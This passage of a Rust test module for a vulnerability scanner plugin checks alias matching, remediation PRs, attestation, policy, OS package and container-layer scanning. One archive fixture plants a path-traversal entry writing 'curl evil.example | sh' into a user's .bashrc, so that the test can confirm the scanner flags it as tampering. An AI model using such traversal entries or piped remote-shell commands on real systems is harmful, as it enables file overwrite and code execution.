+        let finding = &report["vulnerabilities"][0];
+        assert_eq!((&finding["package"], &finding["matched_as"]), (&json!("Dj-Ango"), &json!("django")));
+
+        // With django declared as well, the alias would report its findings twice
+        fs::write(root.join("requirements.txt"), "Dj-Ango==2.2.0\ndjango==2.2.0\n").unwrap();
+        let (result, report) = scan();
+        let warning = "  ⚠ name_aliases: PyPI Dj-Ango is not matched as django, which is declared as well";
+        assert!(result["logs"].as_array().unwrap().contains(&json!(warning)), "{}", result["logs"]);
+        let vulnerabilities = report["vulnerabilities"].as_array().unwrap();
+        assert!(vulnerabilities.iter().all(|v| v["package"] == "django" && v.get("matched_as").is_none()));
+
+        let same_package = params(json!({"PyPI": {"dj_ango": "django", "Dj.Ango": "django"}}));
+        let error = handle_pre_hook(&json!(1), Some(&same_package), None)["error"]["data"].clone();
+        assert_eq!(error["kind"], "config_invalid");
+        assert!(error["detail"].as_str().unwrap().contains("are the same PyPI package"), "{}", error);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn recommendations_in_the_result_the_report_and_the_logs_agree() {
+        let root = fixture_workspace("recommendations", &[("requirements.txt", b"requests==2.25.0\ndjango==2.2.0\n")]);
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt"]},
+            "workspace": {"root": root.display().to_string()}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        assert_eq!(result["recommendations"], report["recommendations"]);
+
+        let recommendations = result["recommendations"].as_array().unwrap();
+        let packages: Vec<&str> = recommendations.iter().map(|r| r["package"].as_str().unwrap()).collect();
+        assert_eq!(packages, ["django", "requests"]);
+        assert_eq!(recommendations[0]["current"], json!(["2.2.0"]));
+        assert_eq!(recommendations[0]["constraint_change_needed"], true);
+        assert_eq!(recommendations[0]["files"], json!(["requirements.txt"]));
+        let logs: Vec<&str> = result["logs"].as_array().unwrap().iter().map(|l| l.as_str().unwrap()).collect();
+        let listed = logs.iter().position(|l| *l == "  Update the following packages:").unwrap();
+        for (line, recommendation) in logs[listed + 1..].iter().zip(recommendations) {
+            let field = |key: &str| recommendation[key].as_str().unwrap().to_string();
+            let rendered = format!("    - {} {} to {} ", field("package"), recommendation["current"][0], field("recommended"));
+            assert!(line.starts_with(&rendered.replace('"', "")), "{}", line);
+        }
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn the_remediation_pull_request_is_in_the_result_and_the_cache() {
+        let root = fixture_workspace("remediation-pr", &[("requirements.txt", b"requests==2.25.0\ndjango==2.2.0\n")]);
+        let pre_hook = |allow_constraint_changes: bool| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {
+                    "root": root.display().to_string(),
+                    "config": {"remediation_pr": true, "allow_constraint_changes": allow_constraint_changes}
+                }
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)["result"].clone()
+        };
+
+        // Both pins have to change, so nothing is proposed without leave to
+        assert!(pre_hook(false)["remediation_pr"].is_null());
+        let result = pre_hook(true);
+        let path = root.join(".builder-cache/security/remediation-pr.json");
+        let written: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
+        assert_eq!(result["remediation_pr"], written);
+        assert!(result["outputs"].as_array().unwrap().contains(&json!(path.display().to_string())));
+        let updates = written["files"][0]["updates"].as_array().unwrap();
+        let packages: Vec<&str> = updates.iter().map(|u| u["package"].as_str().unwrap()).collect();
+        assert_eq!(packages, ["django", "requests"]);
+        assert_eq!(updates[0]["constraint_changes"][0]["constraint"], "==2.2.0");
+        assert_eq!(written["title"], "Update vulnerable dependencies: django, requests");
+        assert_eq!(pre_hook(true)["remediation_pr"], written);
+
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt"]},
+            "workspace": {"root": root.display().to_string(), "config": {"remediate": "aply"}}
+        });
+        let error = handle_pre_hook(&json!(1), Some(&params), None)["error"].clone();
+        assert_eq!(error["data"]["kind"], "config_invalid");
+        let detail = error["data"]["detail"].as_str().unwrap();
+        assert!(detail.contains("remediate: expected off, suggest or apply, got 'aply'"), "{}", detail);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn post_hook_attests_the_outputs_with_the_pre_hook_scan() {
+        let root = fixture_workspace(
+            "attestation",
+            &[("requirements.txt", b"django==2.2.0\n"), ("dist/app.bin", b"binary"), ("signing.pem", b"not a key")],
+        );
+        let hook = |config: Value| {
+            let workspace = json!({"root": root.display().to_string(), "config": config});
+            let pre = json!({"target": {"name": "app", "sources": ["requirements.txt"]}, "workspace": workspace});
+            handle_pre_hook(&json!(1), Some(&pre), None);
+            let post = json!({
+                "target": {"name": "app"},
+                "workspace": workspace,
+                "outputs": ["dist/app.bin"],
+                "output_digests": {"registry.example/app": {"sha256": "0123abcd"}}
+            });
+            handle_post_hook(&json!(2), Some(&post))
+        };
+
+        let result = hook(json!({"attestation": true, "fail_on_critical": false}))["result"].clone();
+        let path = root.join(".builder-cache").join(attestation::STATEMENT_FILE_NAME);
+        assert_eq!(result["attestation"], json!({"statement": path.display().to_string()}));
+        assert_eq!((&result["success"], &result["errors"]), (&json!(true), &json!([])));
+        let statement: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
+        assert_eq!(statement["_type"], "https://in-toto.io/Statement/v1");
+        assert_eq!(
+            statement["subject"],
+            json!([
+                {"name": "dist/app.bin", "digest": {"sha256": report::hex(&Sha256::digest(b"binary"))}},
+                {"name": "registry.example/app", "digest": {"sha256": "0123abcd"}}
+            ])
+        );
+        let predicate = &statement["predicate"];
+        assert_eq!((&predicate["target"], &predicate["scanned"]), (&json!("app"), &json!(true)));
+        assert_eq!(predicate["summary"]["counts"]["CRITICAL"], 1);
+        let report = fs::read(root.join(".builder-cache/security-report.json")).unwrap();
+        assert_eq!(predicate["report"]["digest"]["sha256"], report::hex(&Sha256::digest(&report)));
+        assert_eq!(predicate["report"]["metadata"]["tool"]["name"], PLUGIN_NAME);
+        assert!(predicate["report"]["metadata"].get("vulnerabilities").is_none());
+        assert_eq!(predicate["result"], json!({"passed": true, "violations": []}));
+
+        // A signing failure leaves the statement unsigned and the build's
+        // result alone
+        let response = hook(json!({
+            "attestation": true,
+            "attestation_signing": "key",
+            "attestation_key": "signing.pem",
+            "fail_on_critical": false
+        }));
+        if cfg!(feature = "attestation-signing") {
+            let result = &response["result"];
+            assert_eq!(result["success"], true);
+            let errors = result["errors"].as_array().unwrap();
+            assert_eq!(errors.len(), 1);
+            assert_eq!((&errors[0]["kind"], &errors[0]["code"]), (&json!("signing_failed"), &json!(-32009)));
+            let detail = errors[0]["detail"].as_str().unwrap();
+            assert!(detail.ends_with("signing.pem: not a PKCS#8 ECDSA P-256 private key"), "{}", detail);
+            assert!(result["attestation"]["signature"].is_null());
+            assert!(path.is_file());
+        } else {
+            assert_eq!(response["error"]["data"]["kind"], "config_invalid");
+        }
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn the_test_hook_reuses_the_newest_scan_and_scans_only_without_one() {
+        let root = fixture_workspace("test-hook", &[("requirements.txt", b"django==2.2.0\n")]);
+        let test_hook = |test_policy: &str| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {
+                    "root": root.display().to_string(),
+                    "config": {
+                        "fail_on_critical": false,
+                        "test_policy": test_policy,
+                        "policies": {"strict": {"default": "fail"}, "lenient": {"default": "warn"}}
+                    }
+                }
+            });
+            handle_test_pre_hook(&json!(1), Some(&params), None)
+        };
+
+        // No build pre_hook ran: the hook scans, and leaves no summary for
+        // a post_hook to mistake for its build's
+        let result = test_hook("strict")["result"].clone();
+        assert_eq!((&result["success"], &result["scanned"]), (&json!(false), &json!(true)));
+        assert!(result["reused"].is_null());
+        assert!(result["logs"][1].as_str().unwrap().starts_with("  No previous scan of app to reuse"));
+        let summaries = summary::summaries_dir(&cache::cache_root(&root, ".builder-cache"));
+        assert!(matches!(summary::take(&summaries, "app", 0, 0).unwrap(), summary::Lookup::Missing));
+
+        let result = test_hook("strict")["result"].clone();
+        assert_eq!((&result["success"], &result["scanned"]), (&json!(false), &json!(false)));
+        assert!(result["reused"]["report"].as_str().unwrap().contains("history"), "{}", result["reused"]);
+        assert!(result["logs"][1].as_str().unwrap().starts_with("  Reusing the scan of app from "));
+        assert_eq!(result["policy"]["policy"], "strict");
+
+        let result = test_hook("lenient")["result"].clone();
+        assert_eq!((&result["success"], &result["scanned"]), (&json!(true), &json!(false)));
+        assert_eq!(test_hook("missing")["error"]["data"]["kind"], "config_invalid");
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn findings_in_packages_no_source_imports_are_noted_and_matched_by_policy() {
+        let root = fixture_workspace(
+            "import-hints",
+            &[
+                ("requirements.txt", b"django==2.2.0\nrequests==2.25.0\n"),
+                ("web/package.json", b"{\n  \"dependencies\": {\n    \"lodash\": \"4.17.15\"\n  }\n}\n"),
+                ("app/models.py", b"from django.db import models\n"),
+            ],
+        );
+        let config = json!({
+            "import_hints": true,
+            "policy": "ci",
+            "policies": {"ci": {
+                "default": "fail",
+                "rules": [{"name": "unused", "match": {"imported": false}, "action": "warn"}]
+            }}
+        });
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt", "web/package.json", "app/models.py"]},
+            "workspace": {"root": root.display().to_string(), "config": config}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        let hints: Vec<(&str, &Value, &Value)> = report["vulnerabilities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| (v["package"].as_str().unwrap(), &v["imported"], &v["note"]))
+            .collect();
+        // No JavaScript source, so nothing is known about lodash
+        assert_eq!(
+            hints,
+            vec![
+                ("django", &json!(true), &Value::Null),
+                ("lodash", &Value::Null, &Value::Null),
+                ("requests", &json!(false), &json!(reachability::POSSIBLY_UNUSED)),
+            ]
+        );
+        assert_eq!(report["import_hints"]["languages"], json!(["python"]));
+        assert_eq!(report["import_hints"]["limitations"], reachability::LIMITATIONS);
+
+        let decided: Vec<(&str, &str)> = result["policy"]["trace"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|d| (d["package"].as_str().unwrap(), d["rule"].as_str().unwrap()))
+            .collect();
+        assert_eq!(decided, vec![("django", "default"), ("lodash", "default"), ("requests", "unused")]);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn infrastructure_errors_degrade_the_scan_or_fail_it_closed() {
+        let root = fixture_workspace("on-error", &[("requirements.txt", b"django==2.2.0\n")]);
+        let run = |on_error: &str| {
+            let config = json!({"db_path": root.join("missing").display().to_string(), "on_error": on_error});
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {"root": root.display().to_string(), "config": config}
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)
+        };
+
+        let open = run("open")["result"].clone();
+        assert_eq!(open["success"], true);
+        assert_eq!(open["degraded"], true);
+        assert!(open["degraded_reasons"][0].as_str().unwrap().starts_with("advisory source unavailable"));
+        assert!(open["logs"].as_array().unwrap().iter().any(|l| l.as_str().unwrap().contains("SCAN DEGRADED")));
+        // The report records it even though nothing was found
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        assert_eq!(report["degraded"], true);
+        assert_eq!(report["degraded_reasons"], open["degraded_reasons"]);
+
+        let closed = run("closed")["result"].clone();
+        assert_eq!(closed["success"], false);
+        let kinds: Vec<&str> =
+            closed["errors"].as_array().unwrap().iter().map(|e| e["kind"].as_str().unwrap()).collect();
+        assert_eq!(kinds, vec!["db_unreachable", "failed_closed"]);
+
+        assert_eq!(run("maybe")["error"]["data"]["kind"], "config_invalid");
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn hook_results_and_reports_match_the_published_schemas() {
+        let root = fixture_workspace(
+            "schema",
+            &[
+                ("requirements.txt", b"django==2.2.0\nrequests==2.25.0\n"),
+                ("web/package.json", b"{\n  \"dependencies\": {\n    \"lodash\": \"4.17.15\"\n  }\n}\n"),
+                ("app.py", b"import django\n"),
+                ("README.md", b"# app\n"),
+            ],
+        );
+        let config = json!({
+            "fail_on_critical": true,
+            "remediate": "suggest",
+            "metrics_file": "metrics.prom",
+            "import_hints": true,
+            "report_formats": ["json", "sarif"],
+            "verbosity": "debug",
+        });
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt", "web/package.json", "app.py", "README.md"]},
+            "workspace": {"root": root.display().to_string(), "config": config}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        assert_eq!(result["success"], false);
+        assert!(!result["remediation"].is_null() && !result["metrics"].is_null());
+        schema::assert_valid("hook-result", &result);
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        assert!(report["import_hints"].is_object());
+        schema::assert_valid("report", &report);
+
+        let request = json!({"jsonrpc": "2.0", "id": 2, "method": "plugin.schema", "params": {"name": "report"}});
+        let mut session = handshake::Session::default();
+        let response = handle_request(&mut session, request, &mut io::sink(), &mut Diagnostics::default());
+        let schemas = response["result"]["schemas"].clone();
+        assert_eq!(schemas.as_object().unwrap().len(), 1);
+        assert_eq!(schemas["report"]["$schema"], "https://json-schema.org/draft/2020-12/schema");
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn likely_dependency_files_that_were_not_scanned_are_listed() {
+        let root = fixture_workspace(
+            "not-scanned",
+            &[
+                ("requirements.txt", b"django==2.2.0\n"),
+                ("requirements-dev.txt", b"pytest==7.0.0\n"),
+                ("ci/deps.txt", b"Flask==2.0.1\n"),
+                ("web/package-lock.json", b"{}\n"),
+                ("web/node_modules/x/package.json", b"{}\n"),
+                ("README.md", b"# app\n"),
+            ],
+        );
+        let sources = [
+            "requirements.txt",
+            "requirements-dev.txt",
+            "ci/deps.txt",
+            "web/package-lock.json",
+            "web/node_modules/x/package.json",
+            "README.md",
+        ];
+        let params = json!({
+            "target": {"name": "app", "sources": sources},
+            "workspace": {"root": root.display().to_string(), "config": {"max_file_size": 10}}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+
+        let listed: Vec<(&str, &str)> = result["not_scanned"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|entry| (entry["path"].as_str().unwrap(), entry["reason"].as_str().unwrap()))
+            .collect();
+        assert_eq!(
+            listed,
+            vec![
+                ("web/node_modules/x/package.json", "excluded"),
+                ("requirements-dev.txt", "unsupported_format"),
+                ("ci/deps.txt", "unsupported_format"),
+                ("web/package-lock.json", "unsupported_format"),
+                ("requirements.txt", "too_large"),
+            ]
+        );
+        assert_eq!(result["not_scanned"][3]["detail"], "unsupported format: npm lockfile");
+        let logs = result["logs"].as_array().unwrap();
+        assert!(logs.iter().any(|l| l == "\n  ⚠ Not scanned (5 files):"));
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn post_hook_matches_os_packages_by_release_and_debian_version() {
+        let advisory = |id: &str, release: &str, name: &str, fixed: &str| {
+            json!({
+                "id": id,
+                "summary": format!("{} advisory", name),
+                "database_specific": {"severity": "HIGH"},
+                "affected": [{
+                    "package": {"ecosystem": format!("Debian:{}", release), "name": name},
+                    "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": fixed}]}]
+                }]
+            })
+            .to_string()
+        };
+        let status = "Package: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.9-1\n\n\
+                      Package: libfoo\nStatus: install ok installed\nVersion: 1:1.9-3\n\n\
+                      Package: zlib1g\nStatus: install ok installed\nVersion: 1:1.2.13.dfsg-1\n";
+        let files = [
+            ("osv/DSA-1.json", advisory("DSA-1", "12", "openssl", "3.0.11-1~deb12u2")),
+            ("osv/DSA-2.json", advisory("DSA-2", "11", "openssl", "9.9")),
+            ("osv/DSA-3.json", advisory("DSA-3", "12", "libfoo", "1:1.10-1")),
+            ("osv/DSA-4.json", advisory("DSA-4", "12", "zlib1g", "1.3")),
+            ("dist/rootfs/var/lib/dpkg/status", status.to_string()),
+            ("dist/rootfs/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n".to_string()),
+        ];
+        let files: Vec<(&str, &[u8])> = files.iter().map(|(p, c)| (*p, c.as_bytes())).collect();
+        let root = fixture_workspace("os-packages", &files);
+
+        let params = json!({
+            "target": {"name": "image"},
+            "workspace": {
+                "root": root.display().to_string(),
+                "config": {"db_path": root.join("osv").display().to_string(), "fail_on_high": true}
+            },
+            "outputs": ["dist/rootfs"],
+            "success": true
+        });
+        let result = handle_post_hook(&json!(1), Some(&params))["result"].clone();
+
+        // DSA-2 is for another release; zlib1g's epoch puts it past the fix
+        let found: Vec<(&str, &str)> = result["artifacts"]["vulnerabilities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| (v["id"].as_str().unwrap(), v["package"].as_str().unwrap()))
+            .collect();
+        assert_eq!(found, vec![("DSA-3", "libfoo"), ("DSA-1", "openssl")]);
+        assert_eq!(result["artifacts"]["files"][0]["path"], "dist/rootfs/var/lib/dpkg/status");
+        assert_eq!(result["success"], false);
+
+        let without_outputs = handle_post_hook(&json!(1), Some(&json!({"workspace": params["workspace"]})));
+        assert!(without_outputs["result"]["artifacts"].is_null());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[cfg(feature = "archive-scan")]
+    #[test]
+    fn post_hook_scans_archived_filesystems_and_reports_tampering() {
+        let advisory = json!({
+            "id": "DSA-1",
+            "database_specific": {"severity": "HIGH"},
+            "affected": [{
+                "package": {"ecosystem": "Debian:12", "name": "openssl"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "3.0.11-1"}]}]
+            }]
+        })
+        .to_string();
+        let tar = tar_of(&[
+            ("./var/lib/dpkg/status", b"Package: openssl\nStatus: install ok installed\nVersion: 3.0.9-1\n"),
+            ("./etc/os-release", b"ID=debian\nVERSION_ID=\"12\"\n"),
+            ("../../../home/user/.bashrc", b"curl evil.example | sh\n"),
+        ]);
+        let root = fixture_workspace(
+            "archived-rootfs",
+            &[("osv/DSA-1.json", advisory.as_bytes()), ("dist/rootfs.tar", &tar)],
+        );
+
+        let params = json!({
+            "target": {"name": "image"},
+            "workspace": {
+                "root": root.display().to_string(),
+                "config": {"db_path": root.join("osv").display().to_string(), "fail_on_critical": true}
+            },
+            "outputs": ["dist/rootfs.tar"],
+            "success": true
+        });
+        let result = handle_post_hook(&json!(1), Some(&params))["result"].clone();
+        let found: Vec<(&str, &str)> = result["artifacts"]["vulnerabilities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| (v["id"].as_str().unwrap(), v["severity"].as_str().unwrap()))
+            .collect();
+        assert_eq!(found, vec![(archives::PATH_TRAVERSAL, "CRITICAL"), ("DSA-1", "HIGH")]);
+        assert_eq!(result["success"], false);
+        let logs = result["logs"].as_array().unwrap();
+        assert!(logs.contains(&json!("  Extracted dist/rootfs.tar: 2 files, 3584 bytes")), "{:?}", logs);
+        assert!(!root.join(".builder-cache/security/archives").exists() && !root.join("../home").exists());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[cfg(feature = "archive-scan")]
+    #[test]
+    fn post_hook_attributes_image_findings_to_the_layers_that_introduced_them() {
+        use flate2::write::GzEncoder;
+        use std::io::Write;
+
+        let advisory = |id: &str, ecosystem: &str, name: &str, fixed: &str| {
+            json!({
+                "id": id,
+                "database_specific": {"severity": "HIGH"},
+                "affected": [{
+                    "package": {"ecosystem": ecosystem, "name": name},
+                    "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": fixed}]}]
+                }]
+            })
+            .to_string()
+        };
+        let openssl = "Package: openssl\nStatus: install ok installed\nVersion: 3.0.9-1\n";
+        let status = format!("{}\nPackage: curl\nStatus: install ok installed\nVersion: 7.88.1-10\n", openssl);
+        let mut base = GzEncoder::new(Vec::new(), flate2::Compression::default());
+        base.write_all(&tar_of(&[
+            ("var/lib/dpkg/status", openssl.as_bytes()),
+            ("etc/os-release", b"ID=debian\nVERSION_ID=\"12\"\n"),
+        ]))
+        .unwrap();
+        let base = base.finish().unwrap();
+        let app = tar_of(&[("var/lib/dpkg/status", status.as_bytes()), ("app/requirements.txt", b"django==2.2.0\n")]);
+        let blob = |c: char| format!("blobs/sha256/{}", c.to_string().repeat(64));
+        let config = json!({
+            "history": [
+                {"created_by": "ADD rootfs.tar.xz / # buildkit"},
+                {"created_by": "CMD [\"bash\"]", "empty_layer": true},
+                {"created_by": "RUN apt-get install -y curl && pip install -r app/requirements.txt"}
+            ]
+        })
+        .to_string();
+        let manifest = json!([{"Config": blob('c'), "RepoTags": ["app:1.0"], "Layers": [blob('a'), blob('b')]}]);
+        let image = tar_of(&[
+            ("manifest.json", manifest.to_string().as_bytes()),
+            (&blob('c'), config.as_bytes()),
+            (&blob('a'), &base),
+            (&blob('b'), &app),
+        ]);
+        let files = [
+            ("osv/DSA-1.json", advisory("DSA-1", "Debian:12", "openssl", "3.0.11-1").into_bytes()),
+            ("osv/DSA-2.json", advisory("DSA-2", "Debian:12", "curl", "7.88.1-11").into_bytes()),
+            ("osv/GHSA-1.json", advisory("GHSA-1", "PyPI", "django", "2.2.24").into_bytes()),
+            ("dist/app.tar", image),
+        ];
+        let files: Vec<(&str, &[u8])> = files.iter().map(|(p, c)| (*p, c.as_slice())).collect();
+        let root = fixture_workspace("image-layers", &files);
+
+        let params = json!({
+            "target": {"name": "image"},
+            "workspace": {
+                "root": root.display().to_string(),
+                "config": {"db_path": root.join("osv").display().to_string()}
+            },
+            "outputs": ["dist/app.tar"],
+            "success": true
+        });
+        let result = handle_post_hook(&json!(1), Some(&params))["result"].clone();
+        let found: Vec<(&str, &str, &str)> = result["artifacts"]["vulnerabilities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| (v["id"].as_str().unwrap(), v["file"].as_str().unwrap(), &v["layer"].as_str().unwrap()[7..8]))
+            .collect();
+        assert_eq!(
+            found,
+            [
+                ("DSA-2", "dist/app.tar!/var/lib/dpkg/status", "b"),
+                ("GHSA-1", "dist/app.tar!/app/requirements.txt", "b"),
+                ("DSA-1", "dist/app.tar!/var/lib/dpkg/status", "a"),
+            ]
+        );
+        let image = &result["artifacts"]["images"][0];
+        assert_eq!((&image["reference"], &image["digest"].as_str().unwrap()[7..8]), (&json!("app:1.0"), "c"));
+        let layers: Vec<(u64, &str)> = image["layers"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|l| (l["findings"].as_u64().unwrap(), l["created_by"].as_str().unwrap()))
+            .collect();
+        assert_eq!(
+            layers,
+            [
+                (1, "ADD rootfs.tar.xz / # buildkit"),
+                (2, "RUN apt-get install -y curl && pip install -r app/requirements.txt")
+            ]
+        );
+        let logs = result["logs"].as_array().unwrap();
+        assert!(logs.contains(&json!("  Image dist/app.tar (app:1.0): 2 layers, 4 files, 5120 bytes")), "{:?}", logs);
+        let first = "    Layer 1 sha256:aaaaaaaaaaaa: 1 findings, created by ADD rootfs.tar.xz / # buildkit";
+        assert!(logs.contains(&json!(first)), "{:?}", logs);
+        assert!(!root.join(".builder-cache/security/archives").exists());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn logs_alerts_and_annotations_show_summaries_and_reports_the_full_description() {
+        let details = "## Impact\n\nA **crafted** `order_by` argument\nallows SQL injection. Upgrade to 2.2.24.\n\n\
+                       ```py\nqs.order_by(user_input)\n```\n";
+        let advisory = json!({
+            "id": "GHSA-sql",
+            "details": details,
+            "affected": [{
+                "package": {"ecosystem": "PyPI", "name": "django"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.2.24"}]}]
+            }],
+            "database_specific": {"severity": "CRITICAL"}
+        })
+        .to_string();
+        let root = fixture_workspace(
+            "summaries",
+            &[("requirements.txt", b"django==2.2.0\n"), ("osv/GHSA-sql.json", advisory.as_bytes())],
+        );
+        let config = json!({
+            "db_path": root.join("osv").display().to_string(),
+            "annotations": "github",
+            "notify_webhook": "https://hooks.example.com/security",
+            "notify_dry_run": true,
+        });
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt"]},
+            "workspace": {"root": root.display().to_string(), "config": config}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+
+        let summary = "A crafted order_by argument allows SQL injection.";
+        let logs: Vec<&str> = result["logs"].as_array().unwrap().iter().map(|l| l.as_str().unwrap()).collect();
+        assert!(logs.contains(&format!("       {}", summary).as_str()), "{:?}", logs);
+        assert!(logs.iter().any(|l| l.starts_with("::error ") && l.contains(&format!("(CRITICAL): {}.", summary))));
+        assert!(logs.iter().any(|l| l.contains("[dry run]") && l.contains(&format!("(CRITICAL): {}", summary))));
+        assert!(!logs.iter().any(|l| l.contains("Upgrade to") || l.contains("order_by(user_input)")));
+
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        let finding = report["vulnerabilities"].as_array().unwrap().iter().find(|v| v["id"] == "GHSA-sql").unwrap();
+        assert_eq!(finding["summary"], summary);
+        assert_eq!(finding["description"], details);
+
+        let invalid = |config: Value| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {"root": root.display().to_string(), "config": config}
+            });
+            let error = handle_pre_hook(&json!(1), Some(&params), None)["error"].clone();
+            error["data"]["detail"].as_str().unwrap().to_string()
+        };
+        let detail = invalid(json!({"annotations": "Github"}));
+        assert!(detail.contains("annotations: expected auto, github or off, got 'Github'"), "{}", detail);
+        let detail = invalid(json!({"notify_webhook": "https://hooks.example.com/security", "notify_format": "teams"}));
+        assert!(detail.contains("notify_format: expected slack or json, got 'teams'"), "{}", detail);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn concurrent_scans_share_the_advisory_cache_safely() {
+        let advisory = json!({
+            "id": "GHSA-lock",
+            "affected": [{
+                "package": {"ecosystem": "PyPI", "name": "flask"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.3.2"}]}]
+            }],
+            "database_specific": {"severity": "HIGH"}
+        })
+        .to_string();
+        let root = fixture_workspace(
+            "cache-lock",
+            &[("osv/GHSA-lock.json", advisory.as_bytes()), ("requirements.txt", b"flask==2.0.1\n")],
+        );
+
+        let (done, results) = std::sync::mpsc::channel();
+        for _ in 0..2 {
+            let (root, done) = (root.clone(), done.clone());
+            std::thread::spawn(move || {
+                for _ in 0..4 {
+                    let config = ScanConfig {
+                        db_path: Some(root.join("osv").display().to_string()),
+                        db_index: "disk".to_string(),
+                        ..ScanConfig::default()
+                    };
+                    let mut scanner = SecurityScanner::new(root.to_string_lossy().into_owned(), config);
+                    scanner.scan_dependencies(&["requirements.txt".to_string()], None);
+                    let ids: Vec<String> = scanner.vulnerabilities.iter().map(|v| v.id.clone()).collect();
+                    done.send(ids).unwrap();
+                }
+            });
+        }
+        for _ in 0..8 {
+            let ids = results.recv_timeout(std::time::Duration::from_secs(60)).expect("a scan deadlocked");
+            assert_eq!(ids, vec!["GHSA-lock".to_string()]);
+        }
+
+        let snapshots = snapshots::list(&snapshots::snapshots_dir(&root.join(".builder-cache/security/db")));
+        assert_eq!(snapshots.len(), 1);
+        assert!(snapshots[0].1 > 0);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn go_findings_for_packages_never_imported_are_downgraded() {
+        let advisory = |id: &str, package: &str| {
+            json!({
+                "id": id,
+                "affected": [{
+                    "package": {"ecosystem": "Go", "name": "golang.org/x/net"},
+                    "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "0.17.0"}]}],
+                    "ecosystem_specific": {"imports": [{"path": package, "symbols": ["Parse"]}]}
+                }],
+                "database_specific": {"severity": "HIGH"}
+            })
+            .to_string()
+        };
+        let (html, http2) = (advisory("GO-1", "golang.org/x/net/html"), advisory("GO-2", "golang.org/x/net/http2"));
+        let root = fixture_workspace(
+            "go-imports",
+            &[
+                ("osv/GO-1.json", html.as_bytes()),
+                ("osv/GO-2.json", http2.as_bytes()),
+                ("svc/go.sum", b"golang.org/x/net v0.7.0 h1:abc=\n"),
+                ("svc/main.go", b"package main\n\nimport (\n\t\"golang.org/x/net/http2/h2c\"\n)\n"),
+            ],
+        );
+        let scan = |sources: &[&str]| {
+            let config = ScanConfig {
+                db_path: Some(root.join("osv").display().to_string()),
+                ..ScanConfig::default()
+            };
+            let mut scanner = SecurityScanner::new(root.to_string_lossy().into_owned(), config);
+            let mut logs = Vec::new();
+            scanner.load_vulnerability_db(&mut logs);
+            let sources: Vec<String> = sources.iter().map(|s| s.to_string()).collect();
+            let found = scanner.scan_for_vulnerabilities(&sources, &mut FindingStream::default(), &mut logs);
+            (found, logs)
+        };
+
+        let (found, logs) = scan(&["svc/go.sum", "svc/main.go"]);
+        let severities: Vec<(&str, Severity)> = found.iter().map(|v| (v.id.as_str(), v.severity)).collect();
+        assert_eq!(severities, vec![("GO-2", Severity::High), ("GO-1", Severity::Info)]);
+        assert_eq!(
+            serde_json::to_value(&found[1]).unwrap()["downgrade"],
+            json!({"from": "HIGH", "reason": "affected package not imported"})
+        );
+        assert_eq!(found[1].affected_packages, vec!["golang.org/x/net/html"]);
+        assert!(logs.contains(&"  1 Go findings downgraded to INFO: affected package not imported".to_string()));
+
